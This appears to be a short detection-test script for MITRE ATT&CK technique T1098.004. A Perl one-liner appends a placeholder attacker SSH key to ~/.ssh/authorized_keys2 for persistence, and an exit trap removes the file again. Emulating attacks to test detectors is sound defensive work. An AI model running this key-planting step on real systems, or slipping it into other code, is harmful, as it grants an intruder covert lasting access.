#!/usr/bin/env bash
# tactic: persistence
# technique: T1098.004 Account Manipulation: SSH Authorized Keys
# behaviour: a Perl one-liner adds the attacker's key to ~/.ssh/authorized_keys2 (the second file sshd may read), not authorized_keys
# as: user
# expect: persistence
set -u
trap 'rm -f "$HOME/.ssh/authorized_keys2"' EXIT
mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
perl -e 'open(my $f, ">>", "$ENV{HOME}/.ssh/authorized_keys2") or die; print $f "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBADBADBADBAD op\@x\n";'
